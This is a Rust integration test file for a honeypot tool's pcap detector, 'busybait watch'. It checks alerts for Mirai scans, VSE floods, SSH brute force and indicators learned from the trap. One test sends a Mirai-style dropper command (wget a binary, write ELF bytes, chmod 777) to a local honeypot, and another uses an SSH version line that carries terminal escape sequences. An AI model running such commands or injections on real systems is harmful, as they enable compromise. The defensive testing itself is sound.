//! `busybait watch` on the real captures of `testdata/pcaps` and on a
//! synthetic one: what its README says a detector should find, and nothing else.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use util::alerts;

use std::process::Command;

use busybait_pcapgen::attacks::{vse_flood, Flood, Rng};
use busybait_pcapgen::{mirai_scan, Capture};

/// `busybait watch --json ARGS` storing nothing.
fn watch(args: &[&std::ffi::OsStr]) -> (bool, serde_json::Value, String) {
    let mut all = vec!["--no-store".as_ref()];
    all.extend_from_slice(args);
    watch_storing(&all)
}

fn watch_storing(args: &[&std::ffi::OsStr]) -> (bool, serde_json::Value, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_busybait"))
        .arg("watch")
        .arg("--json")
        .args(args)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (out.status.success(), json, stderr)
}

fn pcap(name: &str) -> std::path::PathBuf {
    util::testdata().join("pcaps").join(name)
}

/// A capture of Mirai's scanner at 10.9.8.7 sending its SYNs to `targets` hosts.
fn mirai_scanner_capture(targets: u8) -> Capture {
    let mut cap = Capture::default();
    let targets: Vec<_> = (1..=targets)
        .map(|i| std::net::Ipv4Addr::new(198, 51, 100, i))
        .collect();
    mirai_scan(
        &mut cap,
        "10.9.8.7".parse().unwrap(),
        &targets,
        1_790_000_000.0,
        true,
    );
    cap
}

#[test]
fn real_captures_show_the_scanner_and_no_mirai_signature() {
    let files = [
        "stratosphere-test7-malicious.pcap",
        "stratosphere-malicious-ssh-bruteforce.pcap",
        "stratosphere-test-cc-capture-2.pcap",
        "stratosphere-test12-icmp-portscan.pcap",
    ];
    let paths: Vec<_> = files.iter().map(|f| pcap(f)).collect();
    let args: Vec<&std::ffi::OsStr> = paths.iter().map(|p| p.as_os_str()).collect();
    let mut all = vec![std::ffi::OsStr::new("--pcap")];
    all.extend(args);
    let (ok, json, stderr) = watch(&all);
    assert!(ok, "{stderr}");
    let reports = json.as_array().unwrap();
    assert_eq!(reports.len(), 4);
    for r in reports {
        assert_eq!(r["end"], "complete", "{}", r["file"]);
    }
    // test7: the infected device scans telnet, but not with Mirai's seq == dst SYNs.
    let test7 = &reports[0];
    assert_eq!(test7["counters"]["frames"], 2000);
    // Its SYNs are retransmitted to targets that never answer: scanning, not brute
    // force (that needs accepted connections). It also resolves names at 8.8.8.8,
    // which only corroborates (low severity, after the scan).
    assert_eq!(
        alerts(test7),
        [
            ("telnet-scan".to_string(), "192.168.2.16".to_string()),
            ("dns-direct-8888".to_string(), "192.168.2.16".to_string())
        ]
    );
    let dns = &test7["alerts"][1];
    assert_eq!(dns["severity"], "low");
    assert_eq!(dns["count"], 14);
    assert_eq!(dns["evidence"][0]["matched"], "A 0.debian.pool.ntp.org");
    let scan_alert = test7["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "telnet-scan")
        .unwrap();
    assert_eq!(scan_alert["targets"], 81, "{scan_alert}");
    assert_eq!(scan_alert["count"], 383, "{scan_alert}");
    assert_eq!(scan_alert["evidence"].as_array().unwrap().len(), 5);
    // No Mirai-family alert anywhere.
    for r in reports {
        for (id, src) in alerts(r) {
            assert!(!id.starts_with("mirai-"), "{}: {id} from {src}", r["file"]);
        }
    }
    // The SSH brute force (on TCP 902): libssh2 against an OpenSSH server, 65
    // connections, its HASSH where its KEXINIT came whole.
    let ssh = &reports[1];
    assert_eq!(
        alerts(ssh),
        [("ssh-bruteforce".to_string(), "147.32.80.40".to_string())]
    );
    assert_eq!(ssh["alerts"][0]["dst"], "147.32.80.37");
    assert_eq!(ssh["alerts"][0]["count"], 65);
    assert_eq!(ssh["alerts"][0]["dst_port"], 902);
    let clients = ssh["ssh_clients"].as_array().unwrap();
    assert!(clients
        .iter()
        .all(|c| c["version"] == "SSH-2.0-libssh2_1.11.0" && c["src"] == "147.32.80.40"));
    assert_eq!(
        clients
            .iter()
            .map(|c| c["connections"].as_u64().unwrap())
            .sum::<u64>(),
        65
    );
    assert!(clients
        .iter()
        .any(|c| c["hassh"] == "44ac1859818d6cacfb48ec9cb230b3f0"));
    assert_eq!(alerts(&reports[2]), []);
    assert_eq!(alerts(&reports[3]), []);
}

#[test]
fn a_synthetic_mirai_scanner_is_found_and_a_damaged_file_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let cap = mirai_scanner_capture(30);
    let good = dir.path().join("scan.pcap");
    std::fs::write(&good, cap.bytes()).unwrap();
    let cut = dir.path().join("cut.pcap");
    std::fs::write(&cut, &cap.bytes()[..cap.bytes().len() - 7]).unwrap();
    let eve = dir.path().join("eve.json");
    let (ok, json, stderr) = watch(&[
        "--pcap".as_ref(),
        good.as_os_str(),
        cut.as_os_str(),
        "--eve".as_ref(),
        eve.as_os_str(),
    ]);
    assert!(ok, "{stderr}");
    assert_eq!(
        alerts(&json[0]),
        [
            ("mirai-syn-scan".to_string(), "10.9.8.7".to_string()),
            ("telnet-scan".to_string(), "10.9.8.7".to_string())
        ]
    );
    assert_eq!(json[1]["end"], "truncated");
    assert_eq!(json[1]["counters"]["frames"], 29);
    assert!(stderr.contains("cut short"), "{stderr}");
    // EVE lines: one per alert of both files, Suricata's shape.
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&eve)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    let first = &lines[0];
    assert_eq!(first["event_type"], "alert");
    assert_eq!(first["src_ip"], "10.9.8.7");
    assert_eq!(first["dest_ip"], serde_json::Value::Null);
    assert_eq!(first["timestamp"], "2026-09-21T14:13:20.000000+0000");
    assert_eq!(first["alert"]["signature_id"], 9_100_001);
    assert_eq!(first["alert"]["severity"], 1);
    assert_eq!(first["busybait"]["count"], 30);
    assert_eq!(lines[3]["busybait"]["count"], 29, "the cut file's scan");

    // Not a capture at all: a clear error and a failing exit.
    let junk = dir.path().join("junk.pcap");
    std::fs::write(&junk, b"hello, this is text").unwrap();
    let (ok, _, stderr) = watch(&["--pcap".as_ref(), junk.as_os_str()]);
    assert!(!ok);
    assert!(stderr.contains("not a pcap or pcapng file"), "{stderr}");
    assert!(stderr.contains("junk.pcap"), "{stderr}");
}

/// `watch` stores its alerts in the data dir a running sensor writes to: its own
/// file and table, so the sensor's events keep their gapless `seq`; running it again
/// on the same capture stores nothing new.
#[test]
fn alerts_are_stored_beside_a_running_sensor() {
    let sensor = util::Sensor::start("xiongmai-dvr");
    sensor.well_behaved();
    let dir = tempfile::tempdir().unwrap();
    let mut cap = mirai_scanner_capture(12);
    let flood = Flood {
        bot: "10.9.8.8".parse().unwrap(),
        target: "198.51.100.99".parse().unwrap(),
        t0: 1_790_000_100.0,
        packets: 100,
        rate: 1000.0,
    };
    vse_flood(&mut cap, &mut Rng::new(9), &flood);
    let file = dir.path().join("mixed.pcap");
    std::fs::write(&file, cap.bytes()).unwrap();
    let data = sensor.data_dir.path();
    let args = [
        "--pcap".as_ref(),
        file.as_os_str(),
        "--data-dir".as_ref(),
        data.as_os_str(),
    ];
    let (ok, json, stderr) = watch_storing(&args);
    assert!(ok, "{stderr}");
    assert_eq!(json[0]["alerts"].as_array().unwrap().len(), 3);
    assert!(
        stderr.contains("alerts stored") && stderr.contains("new=3"),
        "{stderr}"
    );
    let read_alerts = || -> Vec<serde_json::Value> {
        std::fs::read_to_string(data.join("alerts.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let lines = read_alerts();
    let uuid = std::fs::read_to_string(data.join("sensor.toml")).unwrap();
    let ids: Vec<&str> = lines.iter().map(|l| l["alert"].as_str().unwrap()).collect();
    // In the report's order: most severe first, then by id.
    assert_eq!(ids, ["mirai-syn-scan", "mirai-vse-flood", "telnet-scan"]);
    for l in &lines {
        assert_eq!(l["eventid"], "busybait.alert");
        assert!(l.get("session").is_none() && l.get("seq").is_none(), "{l}");
        assert!(uuid.contains(l["uuid"].as_str().unwrap()), "{l}");
        assert_eq!(l["capture"], file.display().to_string());
    }
    let vse = &lines[1];
    assert_eq!(vse["src_ip"], "10.9.8.8");
    assert_eq!(vse["dst_ip"], "198.51.100.99");
    assert_eq!(vse["protocol"], "udp");
    assert_eq!(vse["signature_id"], 9_100_009);
    assert_eq!(vse["severity"], "high");
    assert_eq!(vse["count"], 100);
    assert_eq!(vse["timestamp"], "2026-09-21T14:15:00.000000Z");
    assert_eq!(vse["last"], "2026-09-21T14:15:00.099000Z");

    // Again: recognised, nothing new in either store.
    let (ok, _, stderr) = watch_storing(&args);
    assert!(ok && stderr.contains("new=0"), "{stderr}");
    assert_eq!(read_alerts(), lines);

    // The sensor kept serving and its log kept its own numbering.
    sensor.well_behaved();
    let (dir, _) = sensor.stop();
    let events = util::read_events(dir.path());
    let seqs: Vec<u64> = events.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    assert_eq!(seqs, (1..=seqs.len() as u64).collect::<Vec<_>>());
    assert!(events.iter().all(|e| e["eventid"] != "busybait.alert"));
    let conn = rusqlite::Connection::open(dir.path().join("busybait.db")).unwrap();
    let rows: Vec<(String, String, i64)> = conn
        .prepare("SELECT alert, src_ip, count FROM alerts ORDER BY first, id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(
        rows,
        [
            ("mirai-syn-scan".to_string(), "10.9.8.7".to_string(), 12),
            ("telnet-scan".to_string(), "10.9.8.7".to_string(), 12),
            ("mirai-vse-flood".to_string(), "10.9.8.8".to_string(), 100),
        ]
    );
}

/// `watch` matches what the trap in its data dir learned: a bot on the trap asked
/// for a URL and dropped a file; in a capture, a device fetches that same file from
/// that host, and the bot's address shows up too.
#[test]
fn what_the_trap_learned_is_found_in_a_capture() {
    let sensor = util::Sensor::start("xiongmai-dvr");
    let mut client = sensor.connect_from("127.1.0.50".parse().unwrap());
    client.login();
    client.send(
        b"wget http://127.0.0.1:80/bins/mirai.arm7; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x\r\n",
    );
    client.send(b"exit\r\n");
    client.read_to_close(std::time::Duration::from_secs(10));
    sensor.wait_for_events("the session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let (data, _) = sensor.stop();
    let sample = b"\x7fELF\x01\x01";

    let mut cap = Capture::default();
    let t = 1_790_000_000.0;
    let mut response = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n".to_vec();
    response.extend_from_slice(sample);
    busybait_pcapgen::tcp_session(
        &mut cap,
        ("10.0.0.7".parse().unwrap(), 40_000),
        ("127.0.0.1".parse().unwrap(), 80),
        &[
            (
                true,
                b"GET /bins/mirai.arm7 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
            ),
            (false, &response),
        ],
        t,
    );
    // The near miss: another file from another host.
    busybait_pcapgen::tcp_session(
        &mut cap,
        ("10.0.0.8".parse().unwrap(), 40_001),
        ("203.0.113.80".parse().unwrap(), 80),
        &[
            (true, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n"),
            (
                false,
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n\x7fELF\x01\x02",
            ),
        ],
        t + 1.0,
    );
    // The bot's address, seen scanning.
    cap.frame(
        t + 2.0,
        &busybait_pcapgen::mirai_syn(
            "127.1.0.50".parse().unwrap(),
            "10.0.0.9".parse().unwrap(),
            23,
            false,
        ),
    );
    let file = data.path().join("capture.pcap");
    std::fs::write(&file, cap.bytes()).unwrap();
    let (ok, json, stderr) = watch(&[
        "--pcap".as_ref(),
        file.as_os_str(),
        "--data-dir".as_ref(),
        data.path().as_os_str(),
    ]);
    assert!(ok, "{stderr}");
    // Three indicators from the session: its address, its URL, the file's hash.
    assert!(
        stderr.contains("matching what the trap learned indicators=3"),
        "{stderr}"
    );
    let found: Vec<(String, String)> = alerts(&json[0]);
    assert_eq!(
        found,
        [
            ("trap-download-host".to_string(), "10.0.0.7".to_string()),
            ("trap-sample-download".to_string(), "10.0.0.7".to_string()),
            ("trap-attacker".to_string(), "127.1.0.50".to_string()),
        ]
    );
    let sample_alert = &json[0]["alerts"][1];
    assert_eq!(
        sample_alert["evidence"][0]["matched"],
        format!("sha256 {} (6 bytes)", util::sha256_hex(sample))
    );
    assert_eq!(
        json[0]["alerts"][0]["evidence"][0]["matched"],
        "SYN to 80 (trap: http://127.0.0.1:80/bins/mirai.arm7)"
    );
}

#[test]
fn an_ssh_clients_hostile_version_line_is_escaped_in_the_text_report() {
    let mut cap = Capture::default();
    let bot: std::net::Ipv4Addr = "10.9.8.7".parse().unwrap();
    let server: std::net::Ipv4Addr = "198.51.100.9".parse().unwrap();
    for i in 0..5u16 {
        busybait_pcapgen::tcp_session(
            &mut cap,
            (bot, 40_000 + i),
            (server, 2222),
            &[
                (false, b"SSH-2.0-OpenSSH_9.2p1\r\n"),
                (true, b"SSH-2.0-\x1b]52;c;ZXZpbA==\x07x\xe2\x80\xae\r\n"),
            ],
            1_790_000_000.0 + f64::from(i),
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ssh.pcap");
    std::fs::write(&path, cap.bytes()).unwrap();
    let (ok, json, stderr) = watch(&["--pcap".as_ref(), path.as_os_str()]);
    assert!(ok, "{stderr}");
    assert_eq!(
        alerts(&json[0]),
        [("ssh-bruteforce".to_string(), "10.9.8.7".to_string())]
    );
    assert_eq!(
        json[0]["ssh_clients"][0]["version"],
        "SSH-2.0-\u{1b}]52;c;ZXZpbA==\u{7}x\u{202e}"
    );
    let text = Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args(["watch", "--no-store", "--pcap"])
        .arg(&path)
        .output()
        .unwrap();
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'));
    assert!(
        text.contains("SSH-2.0-\\u{1b}]52;c;ZXZpbA==\\u{7}x\\u{202e}"),
        "{text}"
    );
}

/// The fleet's live indicators are for a live capture: a capture file with a
/// `[fleet] url` is refused, saying what to use instead.
#[test]
fn the_fleets_live_indicators_need_a_live_capture() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watch.toml");
    std::fs::write(&config, "[fleet]\nurl = \"nats://127.0.0.1:4222\"\n").unwrap();
    let capture = dir.path().join("any.pcap");
    let (ok, _, stderr) = watch(&[
        "--pcap".as_ref(),
        capture.as_os_str(),
        "--config".as_ref(),
        config.as_os_str(),
    ]);
    assert!(!ok);
    assert!(
        stderr.contains("--fleet needs --interface") && stderr.contains("--learned-from"),
        "{stderr}"
    );
}
